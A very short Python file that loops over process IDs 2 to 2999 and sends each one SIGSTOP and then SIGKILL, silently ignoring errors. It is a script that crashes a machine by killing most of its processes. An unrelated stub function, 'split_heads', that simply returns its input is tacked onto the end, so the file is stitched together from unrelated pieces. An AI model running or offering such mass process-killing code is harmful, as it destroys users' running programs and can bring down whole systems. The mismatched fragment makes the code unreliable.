"""A signal for every process that there is."""
import os
import signal

for pid in range(2, 3000):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        if pid != os.getpid():
            try:
                os.kill(pid, number)
            except OSError:
                pass
def split_heads(x, num_heads):
    return x
